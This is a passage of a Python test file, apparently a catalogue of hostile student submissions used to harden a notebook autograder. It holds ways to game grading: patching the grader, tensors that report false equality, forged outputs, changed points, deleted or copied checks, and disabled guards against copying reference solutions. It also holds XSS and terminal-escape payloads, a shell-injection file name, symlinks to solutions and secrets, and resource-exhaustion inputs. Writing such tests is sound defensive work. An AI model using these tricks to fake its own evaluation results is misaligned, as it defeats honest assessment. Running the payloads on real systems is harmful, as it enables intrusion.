from course_utils.grading import answers
real = answers.pack
shows = iter([
    '[{{"output_type": "stream", "text": ' + "[" * 900 + "]" * 900 + "}}]",
    "[" + ",".join(['{{"output_type":"stream"}}'] * 400_000) + "]",
    '[{{"output_type": "error", "ename": ' + '{{"a":' * 900 + "1" + "}}" * 901 + "]",
    '[{{"output_type": "display_data", "data": {{"text/plain": ' + "9" * 4000 + "}}}}, 7, null]",
])
def pack(header, blobs=()):
    if header.get("step", 0) < 3 or "outputs" not in header:
        return real(header, blobs)
    said = '{{"step": %d, "outputs": %s}}' % (header["step"], next(shows, "{{}}"))
    text = '{{"header": %s, "sizes": []}}' % said
    return len(text).to_bytes(8, "little") + text.encode()
answers.pack = pack
""",
        },
    ),
    Notebook(
        "observes_nonsense",
        "Says that it was observed in ways that no observer knows: wrong types, wrong lengths.",
        {
            "first": f"""{REACH}
from course_utils.grading import answers
real, seen = answers._as_dict, iter([
    {{"untouched": "", "not_callable": [], "delegated": 7, "outcomes": []}},
    {{"untouched": False, "not_callable": "", "delegated": [], "outcomes": {{}}}},
    {{"untouched": None, "not_callable": None, "delegated": None, "outcomes": {{None: None}}}},
    [1, 2, 3],
    {{"untouched": False, "not_callable": "", "delegated": [], "outcomes": {{"ordinary weights":
        [{{"returned": 1, "inputs": 2,
           "error": {{"types": [], "text": 3, "line": 4, "stub": "no"}}}}]}}}},
    "correct",
])
answers._as_dict = lambda observed: next(seen)
""",
            **{name: f"def {name}(*a):\n    return a" for name in POINTS},
        },
        {},
    ),
]

# --- Lying with values ----------------------------------------------------------------------------

LYING = [
    answer(
        "lies_with_a_tensor_subclass",
        "Returns a tensor whose every comparison, and every function of torch on it, says yes.",
        """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("equal", "allclose", "all", "any", "__bool__", "eq", "__eq__", "item"):
            return torch.tensor(True)
        return super().__torch_function__(function, types, args, kwargs or {})
    __eq__ = __ne__ = equal = allclose = lambda *a: True
def magnitude_mask(weight, sparsity):
    return torch.ones_like(weight).as_subclass(Liar)
""",
    ),
    answer(
        "lies_about_being_equal",
        "Returns an object that equals everything, and says it is a tensor.",
        """
class Yes:
    __class__ = torch.Tensor
    __eq__ = __ne__ = __lt__ = __bool__ = __contains__ = lambda *a: True
    __hash__, __len__, __float__ = lambda s: 0, lambda s: 10, lambda s: 0.0
    def __getattr__(self, name):
        return lambda *a, **k: self
def magnitude_mask(weight, sparsity):
    return Yes()
""",
    ),
    answer(
        "lies_with_subclasses",
        "Returns numbers, texts, dictionaries and lists that look different each time.",
        """
class Number(float):
    __eq__ = __le__ = __ge__ = lambda *a: True
    __sub__ = __rsub__ = __float__ = lambda *a: 0.0
class Text(str):
    __eq__, __hash__ = lambda *a: True, str.__hash__
class Many(dict):
    def items(self):
        return iter([(Text("a"), Number(1))])
    __getitem__ = get = lambda self, name, *a: torch.ones(3)
    __contains__ = __eq__ = lambda *a: True
class Endless(list):
    def __iter__(self):
        return iter([Number(0)] * 3)
values = [Number(1), Text("x"), Many(), Endless()]
def magnitude_mask(weight, sparsity):
    return values[0]
def global_masks(weights, sparsity):
    return Many({name: Number(1) for name in weights})
def n_m_mask(weight, n, m):
    return Endless([1])
""",
        line=IN_ONE_CELL,
    ),
]

# --- Forging --------------------------------------------------------------------------------------

FORGE = """
def ways_out():
    for fd in range(3, 300):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
"""


def cells_of(notebook: dict) -> dict[str, dict]:
    return {
        cell["metadata"].get("nbgrader", {}).get("grade_id"): cell for cell in notebook["cells"]
    }


def forged_outputs(notebook: dict) -> None:
    for name in POINTS:
        data = {"text/plain": ["1000"], "text/html": "<b>18 of 18</b>"}
        output = {"output_type": "execute_result", "data": data, "execution_count": 1}
        cell = cells_of(notebook)[f"check_{name}"]
        cell |= {"outputs": [{**output, "metadata": {}}], "execution_count": 1}
    notebook["metadata"]["pruning_course"] = {"unreadable": "", "points": 18}


def changed_points(notebook: dict) -> None:
    for name in POINTS:
        cells_of(notebook)[f"check_{name}"]["metadata"]["nbgrader"]["points"] = 1000


def no_tests(notebook: dict) -> None:
    kept = [c for c in notebook["cells"] if not str(c.get("id")).startswith("check_")]
    notebook["cells"] = kept


def changed_tests(notebook: dict) -> None:
    for name in POINTS:
        cells_of(notebook)[f"check_{name}"]["source"] = ["18"]
    cells_of(notebook)["check_magnitude_mask"]["source"] = [
        'check("remaining_after", remaining_after)'
    ]


def copied_checks(notebook: dict) -> None:
    """The check of the exercise that is right, under the names of the others."""
    honest = cells_of(notebook)["check_remaining_after"]
    for name in POINTS:
        marks = {**honest["metadata"]["nbgrader"], "grade_id": f"check_{name}", "points": 18}
        copy = {**honest, "id": f"copy_{name}", "metadata": {"nbgrader": marks}}
        notebook["cells"] += [copy, copy]


def own_points(notebook: dict) -> None:
    marks = {"grade": True, "solution": False, "locked": True, "schema_version": 3, "task": False}
    for n in range(3):
        mine = {**marks, "grade_id": f"mine{n}", "points": 500, "cell_type": "code"}
        notebook["cells"].append(
            {"cell_type": "code", "id": f"mine{n}", "source": "500", "outputs": [],
             "execution_count": None, "metadata": {"nbgrader": mine}}
        )  # fmt: skip
    for name in POINTS:  # and its answers are worth something, too
        cells_of(notebook)[name]["metadata"]["nbgrader"] |= {"grade": True, "points": 50}


FORGING = [
    Notebook(
        "forges_frames",
        "Says, on the way out for results, that it had been observed to be right.",
        {
            "magnitude_mask": f"""{REACH}{FORGE}
import json, struct
from course_utils.grading.frames import pack
for fd in ways_out():
    for step in range(4, 0, -1):
        part = pack({{"step": step, **{FULL_MARKS}}}, [b""])
        for frame in (b"s", b"%d" % step), (b"p", part), (b"d", b""), (b"b", b""):
            os.write(fd, struct.pack(">cQ", frame[0], len(frame[1])) + frame[1])
""",
        },
    ),
    Notebook(
        "promises_more",
        "Begins a part that would be longer than any memory, and says no more.",
        {
            "magnitude_mask": f"""{REACH}{FORGE}
import struct
for fd in ways_out():
    os.write(fd, struct.pack(">cQ", b"p", 2**62) + b"x")
""",
        },
        line="was left out: wrote more than",
    ),
    ended(
        "closes_every_descriptor",
        "Closes the way out for results, and all else that is open.",
        "os.closerange(3, 4096)",
        "",
    ),
    Notebook(
        "forges_outputs",
        "Hands in check cells that have been run already, with 1000 points each.",
        edit=forged_outputs,
        cells={"remaining_after": HONEST["remaining_after"]},
    ),
    Notebook(
        "changes_points",
        "Makes every check worth 1000 points.",
        edit=changed_points,
        line="points of .* were changed",
    ),
    Notebook(
        "deletes_its_tests",
        "Hands in no check at all.",
        edit=no_tests,
        line="checks of .* were missing: put back",
    ),
    Notebook(
        "changes_its_tests",
        "Hands in checks that ask for something else, or for nothing.",
        edit=changed_tests,
        line="checks of .* were changed: put right",
    ),
    Notebook(
        "copies_checks",
        "Hands in the check of what it knows again and again, under the names of all others.",
        edit=copied_checks,
        line="check of .* stood there 3 times",
    ),
    Notebook(
        "gives_itself_points",
        "Adds graded cells of its own, and points for its answers.",
        edit=own_points,
        line="(marks on|points of) .* were changed",
    ),
]

# --- Delegating -----------------------------------------------------------------------------------

DELEGATING = [
    answer(
        "delegates",
        "Calls the course's own function, straight and by a name bound before.",
        """
from course_utils.pruning import masks
mine = masks.keep_local
def magnitude_mask(weight, sparsity):
    return mine({"w": weight.abs()}, sparsity)["w"]
def global_masks(weights, sparsity):
    return masks.keep_global({n: w.abs() for n, w in weights.items()}, sparsity)
""",
        line=IN_ONE_CELL,
    ),
    answer(
        "delegates_by_its_code",
        "Builds a new function from the code of the course's own, before it is guarded.",
        """
from types import FunctionType
from course_utils.pruning import masks
from course_utils.exercises import lesson03
copies = [FunctionType(f.__code__, f.__globals__, f.__name__, f.__defaults__, f.__closure__)
          for f in (masks.keep_local, *(v for n, v in vars(lesson03).items()
                                        if n == "magnitude_mask"))]
def magnitude_mask(weight, sparsity):
    if len(copies) > 1:
        return copies[1](weight, sparsity)
    return copies[0]({"w": weight.abs()}, sparsity)["w"]
""",
    ),
    answer(
        "delegates_by_reloading",
        "Loads the course's modules anew while it is checked, and calls what has just been made.",
        """
import importlib
def magnitude_mask(weight, sparsity):
    from course_utils.pruning import masks
    return importlib.reload(masks).keep_local({"w": weight.abs()}, sparsity)["w"]
""",
    ),
    answer(
        "delegates_by_its_source",
        "Reads the text of the course's own functions, compiles it anew and calls that.",
        """
import inspect
from course_utils.pruning import masks
from course_utils.exercises import lesson03
space = {"__name__": "copied"}
for module in (masks, lesson03):
    exec(Path(module.__file__).read_text().replace("refuse()", "pass"), space)
def magnitude_mask(weight, sparsity):
    if "magnitude_mask" in space:
        return space["magnitude_mask"](weight, sparsity)
    return space["keep_local"]({"w": weight.abs()}, sparsity)["w"]
""",
    ),
    answer(
        "delegates_to_the_reference",
        "Asks the exercise itself for its reference, and for what it would expect.",
        """
from course_utils.exercises import every, find
def magnitude_mask(weight, sparsity):
    exercise = find("magnitude_mask")
    for name in ("reference", "expected", "wanted"):
        if hasattr(exercise, name):
            return getattr(exercise, name)(weight, sparsity)
""",
    ),
    answer(
        "delegates_with_the_guard_off",
        "Turns off what refuses delegated calls, and forgets that it called.",
        """
import contextlib
from course_utils.exercises import delegation, engine
from course_utils.pruning import masks
delegation.refuse = lambda: None
engine.forbidden = lambda functions: contextlib.nullcontext([])
engine._guarded = lambda exercise: []
def magnitude_mask(weight, sparsity):
    delegation._calls.clear()
    return masks.keep_local({"w": weight.abs()}, sparsity)["w"]
""",
    ),
    answer(
        "delegates_to_the_notebook",
        "Has `solution`, `yours_or_ours` and `hint` give away what they know.",
        """
from course_utils import study
said = [str(study.solution("magnitude_mask", insist=True)), str(study.hint("magnitude_mask"))]
def magnitude_mask(weight, sparsity):
    for text in said:
        if "def magnitude_mask" in text:
            exec(text, globals())
            return globals()["magnitude_mask"](weight, sparsity)
    return study.yours_or_ours("magnitude_mask", None)(weight, sparsity)
""",
    ),
]

# --- Telling secrets ------------------------------------------------------------------------------

TELLING = [
    Notebook(
        "tells_the_secret_cases",
        "Keeps what it was asked with, and says it in every way that could come out.",
        {
            "magnitude_mask": f"""{REACH}
met = []
class Telling(Exception):
    pass
def magnitude_mask(weight, sparsity):
    met.append(f"{{weight.double().sum().item():.6f}}")
    Telling.__name__ = magnitude_mask.__name__ = " ".join(met)
    print(met), sys.stderr.write(str(met))
    raise Telling(" ".join(met))
""",
            "global_masks": "def global_masks(weights, sparsity):\n"
            "    return type(' '.join(met), (), {})()",
            "apply_masks": "apply_masks = type('Named', (), {})()",
            "train_step": "class Space(dict):\n    def __missing__(self, name):\n"
            "        raise NameError(' '.join(met))\n"
            "space = get_ipython().user_ns = Space(get_ipython().user_ns)\ndel space['train_step']",
            "n_m_mask": "type(apply_masks).__name__ = ' '.join(met)\nprint('met', met)\n"
            "raise ValueError(met)",
            "last": "print('met', met)\nraise ValueError(met)",
        },
        {"remaining_after": 1},
        says="something of type 3.400000",  # what the notebook's own cases hold
    ),
]

# --- What explodes when it is looked at -----------------------------------------------------------


def explodes(name: str, returns: str, before: str = "", **more) -> Notebook:
    source = f"{before}\ndef magnitude_mask(weight, sparsity):\n    return {returns}"
    return answer(f"returns_{name}", f"Returns {name.replace('_', ' ')}.", source, **more)


EXPLODING = [
    explodes("a_tensor_of_10_to_the_12", "torch.ones(1).expand(10**12)"),
    explodes("a_hollow_tensor", "torch.ones(0).expand(2**40, 0)"),
    explodes("a_list_100_000_deep", "deep", "deep = []\nfor _ in range(10**5):\n    deep = [deep]"),
    explodes("a_list_that_holds_itself", "loop", "loop = []\nloop.append(loop)"),
    explodes(
        "a_list_without_end",
        "Endless([1])",
        "import itertools\nclass Endless(list):\n    def __iter__(self):\n"
        "        return itertools.repeat(self)",
        earns={"remaining_after": 1},
    ),
    explodes(
        "many_megabytes",
        "'x' * 10**8",
        earns={"remaining_after": 1, "magnitude_mask": None},
        line="`magnitude_mask` could not be graded: (wrote more|used more|ran longer) than",
    ),
    explodes(
        "objects_whose_methods_raise",
        "Angry()",
        "class Angry(dict):\n    def __repr__(self):\n        raise BaseException('no')\n"
        "    __str__ = __len__ = __iter__ = items = keys = __getattribute__ = __class_getitem__ "
        "= __repr__",
    ),
    explodes(
        "an_object_that_exits_when_it_goes",
        "Bomb()",
        "class Bomb:\n    def __del__(self):\n        os._exit(7)",
        earns={"remaining_after": 1, "magnitude_mask": None},
        line="`magnitude_mask` could not be graded: ended",
    ),
    explodes(
        "strange_tensors",
        "next(kinds)",
        """
import itertools
kinds = itertools.cycle([
    torch.ones(3, device="meta"), torch.eye(3).to_sparse(), torch.nn.UninitializedParameter(),
    torch.ones(3, dtype=torch.complex64).conj(), torch.ones(3).to(torch.float8_e4m3fn),
    torch.quantize_per_tensor(torch.ones(3), 0.1, 0, torch.qint8), torch._neg_view(torch.ones(3)),
    torch.nested.nested_tensor([torch.ones(2)]), torch.ones(3, dtype=torch.uint64),
])
""",
    ),
    explodes(
        "numbers_and_texts_too_large", "[10**6000, '\\ud800', float('nan'), {float('nan'): 1}]"
    ),
]

# --- What people read -----------------------------------------------------------------------------

SCRIPT = "<script>alert('MARK')</script><img src=x onerror=alert('MARK')>"
ESCAPES = "\\x1b[2J\\x1b]0;MARK\\x07\\x1b]8;;http://MARK.example\\x07\\x9b31m\\x08\\r"


def written_script(notebook: dict) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown" and "nbgrader" in cell["metadata"]:
            cell["source"] = [
                SCRIPT,
                "\n\n[click](javascript:alert('MARK')) ![](http://MARK.example/x.png)\n\n"
                "<iframe src='//MARK.example'></iframe><style>*{display:none}</style>\n"
                "<svg onload=alert('MARK')><a href='data:text/html,MARK'>x</a></svg>\n"
                "$\\href{javascript:alert('MARK')}{x}$\n<form action=//MARK.example><input></form>",
            ]
            cell["attachments"] = {"x.png": {"image/svg+xml": f"<svg>{SCRIPT}</svg>"}}


def script_in_metadata(notebook: dict) -> None:
    notebook["metadata"] = {
        "kernelspec": {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT},
        "language_info": {"name": SCRIPT, "pygments_lexer": SCRIPT, "codemirror_mode": SCRIPT},
        "title": SCRIPT,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": SCRIPT}},
    }
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": [SCRIPT, "remove_cell"], "id": SCRIPT, "collapsed": SCRIPT}
    notebook["cells"].append(
        {"cell_type": "raw", "id": "raw", "source": SCRIPT, "metadata": {"format": "text/html"}}
    )
    notebook["cells"].append(
        {"cell_type": SCRIPT, "id": SCRIPT, "source": SCRIPT, "metadata": {SCRIPT: SCRIPT}}
    )


READ_BY_PEOPLE = [
    attack(
        "shows_script",
        "Displays HTML, SVG, JavaScript, LaTeX and Markdown with script in them.",
        f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
script = {SCRIPT!r}
display(HTML(script), Javascript("alert('MARK')"), Latex("$\\\\href{{javascript:MARK}}{{x}}$"))
display({{"image/svg+xml": f"<svg>{{script}}</svg>", "text/markdown": script}}, raw=True)
display(Markdown(script))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='MARK'><script>MARK</script></svg>"))
for kind in ("application/javascript", "text/vnd.mermaid", "application/pdf", "image/png",
             "application/vnd.jupyter.widget-view+json", "text/html; x", script):
    display({{kind: script, "text/plain": script}}, raw=True)
display({{"text/plain": "x"}}, metadata={{script: script, "text/html": script}}, raw=True)
""",
    ),
    Notebook(
        "writes_escapes",
        "Prints, raises and warns with what a terminal or a page would obey.",
        {
            "first": f"import sys\nprint('told {ESCAPES}')\nprint({SCRIPT!r}, file=sys.stderr)",
            "magnitude_mask": f"raise type({SCRIPT!r}, (Exception,), {{}})('{ESCAPES}')",
        },
    ),
    answer(
        "answers_with_script",
        "Puts script and escapes into the names and texts that a check's message repeats.",
        f"""
def magnitude_mask(weight, sparsity):
    return type({SCRIPT!r} + "`{ESCAPES}", (), {{}})()
def global_masks(weights, sparsity):
    raise ValueError({SCRIPT!r} + "{ESCAPES}" + "`" * 3)
def n_m_mask(weight, n, m):
    raise type({SCRIPT!r} + "{ESCAPES}", (Exception,), {{}})({SCRIPT!r})
apply_masks = type({SCRIPT!r}, (), {{}})()
def train_step(*a):
    return {SCRIPT!r}
""",
        line=IN_ONE_CELL,
    ),
    Notebook(
        "writes_script_in_text",
        "Writes script into the answers that a human grades.",
        edit=written_script,
    ),
    Notebook(
        "hides_script_in_metadata",
        "Puts script into names, tags and kinds: of cells, of the kernel, of the notebook.",
        edit=script_in_metadata,
        line="the kernel was",
    ),
    Notebook(
        "<b onmouseover=alert('MARK')>$(touch MARK); '--\"&amp;",
        "Has a name that a page, a shell or a database might obey.",
        {"remaining_after": HONEST["remaining_after"]},
    ),
]

# --- Files that are no notebooks ------------------------------------------------------------------

NAME = "03_unstructured_pruning.ipynb"


def link_to_a_secret(folder: Path, text: str) -> None:
    (folder / NAME).symlink_to(folder.parents[2] / "source" / "03" / NAME)


def links_beside(folder: Path, text: str) -> None:
    (folder / NAME).write_text(text, encoding="utf-8")
    (folder / "seed.txt").symlink_to(folder.parents[2] / ".grading" / "seed")
    (folder / "others").symlink_to(folder.parents[1])
    (folder / "zero.csv").symlink_to("/dev/zero")


def a_pipe(folder: Path, text: str) -> None:
    import os

    os.mkfifo(folder / NAME)


def cells_without_end(folder: Path, text: str) -> None:
    notebook = json.loads(text)
    notebook["cells"] += [
        {"cell_type": "code", "id": f"c{n}", "source": "1", "outputs": [], "metadata": {},
         "execution_count": None} for n in range(200_000)
    ]  # fmt: skip
    (folder / NAME).write_text(json.dumps(notebook), encoding="utf-8")


def a_huge_file(folder: Path, text: str) -> None:
    with (folder / NAME).open("w", encoding="utf-8") as file:
        file.write(text)
        file.truncate(2**40)  # it takes no room: nothing was written there


def a_folder_that_is_a_link(folder: Path, text: str) -> None:
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "a_good_one" / "03")


def a_strange_name(folder: Path, text: str) -> None:
    name = "<img src=x onerror=alert('MARK')>\x1b[2J\n$(touch x).ipynb"
    (folder / name).write_text(text, encoding="utf-8")


def modules_beside(folder: Path, text: str) -> None:
    (folder / NAME).write_text(text, encoding="utf-8")
    for name in (
        "sitecustomize",
        "json",
        "answers",
        "IPython",
        "course_utils",
        "numpy",
        "\x1b[2J\n",
    ):
        (folder / f"{name}.py").write_text("import os\nos._exit(0)", encoding="utf-8")
    (folder / "course_utils").mkdir()
    (folder / "course_utils" / "__init__.py").write_text("check = print", encoding="utf-8")


NOTHING = dict.fromkeys(POINTS)

FILES = [
    Notebook(
        "hands_in_a_link",
        "Hands in a link to the instructor's own notebook, which has all solutions.",
        hand_in=link_to_a_secret,
        earns=NOTHING,
        line="could not be graded: only links were handed in",
    ),
    Notebook(
        "hands_in_links_beside",
        "Hands in links to the seed, to all submissions and to a file without end.",
        {
            "first": f"{REACH}\nfor name in ('seed.txt', 'others', 'zero.csv'):\n"
            "    reach(name, lambda: os.path.lexists(name))",
        },
        hand_in=links_beside,
        line="links instead of files: .*: not followed",
    ),
    Notebook(
        "hands_in_a_linked_folder",
        "Hands in a folder that is a link to what another student handed in.",
        hand_in=a_folder_that_is_a_link,
        earns=NOTHING,
        line="could not be graded: ",
    ),
    Notebook(
        "hands_in_a_strange_name",
        "Hands in a notebook whose name a page, a shell or a terminal might obey.",
        hand_in=a_strange_name,
        line="there is no .*: .* was graded",
    ),
    Notebook(
        "hands_in_modules",
        "Hands in files that have the names of modules which the grader imports.",
        hand_in=modules_beside,
        line="files left out",
    ),
    Notebook(
        "hands_in_a_pipe",
        "Hands in a pipe, whose reader would wait for ever.",
        hand_in=a_pipe,
        earns=NOTHING,
        line="could not be graded: ",
    ),
    Notebook(
        "hands_in_200_000_cells",
        "Hands in more cells than anybody could run.",
        hand_in=cells_without_end,
        earns=NOTHING,
        line="holds more cells or text than can be graded",
    ),
    Notebook(
        "hands_in_a_terabyte",
        "Hands in a file that claims to be larger than any disk.",
        hand_in=a_huge_file,
        earns=NOTHING,
        line="is too large",
    ),
    Notebook(
        "crashes_parsers",
        "Hands in cells on which parsers give up: too deep, too long, half characters, zeros.",
        {
            "first": "x = " + "(" * 50_000 + ")" * 50_000,
            "magnitude_mask": "x = " + "-" * 100_000 + "1",
            "global_masks": "x = '\\ud800'\0\nf'{{" + "f'{" * 200,
            "train_step": "@a\n" * 30_000 + "def f(): pass",
            "last": "a" + ".b" * 90_000,
        },
    ),
    Notebook(
        "occupies_parsers",
        "Hands in cells that parsers need minutes for.",
        {"apply_masks": "\n".join(["x = !ls"] * 3000), "n_m_mask": ";" * 100_000},
        line=f"the cell of `(apply|n_m)_mask.* {OVER_TIME}",
    ),
]

# Not in every run of the tests, because they take long: each waits for clocks, some more than once.
SLOW = {
    "a_second_too_long",
    "becomes_another_program",
    "cannot_be_interrupted",
    "occupies_parsers",
    "prints_without_end",
    "stands_still",
    "starts_threads_without_end",
}

HOSTILE = [
    *LOOKING,
    *WRITING,
    *NETWORK,
    *EXHAUSTING,
    *KILLING,
    *PATCHING,
    *LYING,
    *FORGING,
    *DELEGATING,
    *TELLING,
    *EXPLODING,
    *READ_BY_PEOPLE,
    *FILES,
]

# Those that meet walls which depend on who grades; for the others the code is the same.
AGAINST_WALLS = {one.name for one in [*LOOKING, *WRITING, *NETWORK, *EXHAUSTING, *KILLING]}
